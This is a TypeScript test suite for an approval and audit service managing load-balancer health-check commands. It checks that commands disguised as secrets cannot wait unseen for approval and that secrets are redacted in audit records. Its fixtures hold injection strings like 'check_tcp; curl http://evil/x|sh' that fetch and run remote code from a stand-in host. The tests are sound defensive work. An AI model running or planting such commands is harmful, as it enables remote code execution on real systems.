import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { givenApprovals } from './given-approvals.ts';

const change = (command: string) => ({
  recipe: undefined,
  parameters: { name: 'check_tcp' },
  operation: 'updateFarmguardian',
  body: { command },
});

const disguised: readonly (readonly [command: string, audited: string])[] = [
  [
    'check_tcp; curl http://evil/x|sh # -----BEGIN PRIVATE KEY-----MIIB',
    'check_tcp; curl http://evil/x|sh # -----BEGIN PRIVATE KEY-----[redacted 4 characters]',
  ],
  ['check_tcp token: curl evil', 'check_tcp token: [redacted 9 characters]'],
  ['check_tcp password="; curl http://evil/x|sh"', 'check_tcp password=[redacted 25 characters]'],
  ["check_tcp --password '; curl http://evil/x|sh'", 'check_tcp --password [redacted 25 characters]'],
  ['check_tcp http://;curl${IFS}evil|sh;@x', 'check_tcp http://[redacted 19 characters]@x'],
  ['check_tcp secret=curl', 'check_tcp secret=[redacted 4 characters]'],
  ['check_tcp Authorization: curl evil', 'check_tcp Authorization: [redacted 9 characters]'],
  ['check_tcp cookie: evil', 'check_tcp cookie: [redacted 4 characters]'],
  ['check_tcp -a evil', 'check_tcp -a [redacted 4 characters]'],
  ['check_tcp api_key = evil', 'check_tcp api_key = [redacted 4 characters]'],
];

describe('a command disguised as a secret', () => {
  it('cannot wait for an approver, who would not see it', async () => {
    const { ask, sent } = await givenApprovals({ approvals: { requiredFor: ['disruptive', 'destructive'] } });

    for (const [command] of disguised)
      expect((await ask('alice', change(command))).json, command).toMatchObject({
        code: 'cannot_wait',
        detail: expect.stringContaining('in command'),
      });

    expect(sent()).toEqual([]);
  });

  it('is audited with everything that is not secret, the length of the rest, and the digest of the request', async () => {
    const { call, audit } = await givenApprovals();
    const bodies = disguised.map(([command]) => ({ command }));

    for (const body of bodies)
      await call('root', 'PUT', '/appliances/lb-1/monitoring/fg/check_tcp', body, { 'x-confirm': 'lb-1' });

    const records = await audit();
    const of = (event: string) => records.filter((each) => each.event === event);
    const digests = bodies.map((body) => createHash('sha256').update(JSON.stringify(body)).digest('hex'));
    expect(of('intent').map(({ body }) => body)).toEqual(disguised.map(([, command]) => ({ command })));
    expect(of('intent').map(({ body_sha256 }) => body_sha256)).toEqual(digests);
    expect(of('outcome').map(({ sent_sha256 }) => sent_sha256)).toEqual(digests);
  });

  it('cannot wait in a field for a secret, and is not stored there', async () => {
    const { ask } = await givenApprovals();

    const asked = await ask('eve', {
      recipe: undefined,
      operation: 'setSnmp',
      parameters: {},
      body: { community: 'curl evil' },
    });

    expect(asked.json).toMatchObject({ code: 'cannot_wait' });
  });
});

it('a body that is too long to show in full cannot wait for approval', async () => {
  const { ask } = await givenApprovals();
  const behind = (filler: string) => ({ ...change('check_tcp'), body: { description: filler, command: 'curl evil' } });

  const long = await ask('eve', behind('-'.repeat(16_384)));
  const short = await ask('eve', behind('-'.repeat(16_000)));

  expect(long.json).toMatchObject({ code: 'cannot_wait', detail: expect.stringContaining('16384 bytes') });
  expect(short).toMatchObject({
    status: 202,
    json: { plan: { steps: [{ call: { body: { command: 'curl evil' } } }] } },
  });
});

it('a parameter that contains a token or a key is refused, in any spelling', async () => {
  const { ask, tokenOf } = await givenApprovals();
  const token = tokenOf('bob');
  const encoded = [...token].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('');

  for (const farm of [token, `a ${token} b`, encoded])
    expect((await ask('alice', { parameters: { farm } })).json).toMatchObject({ code: 'malformed_body' });
});
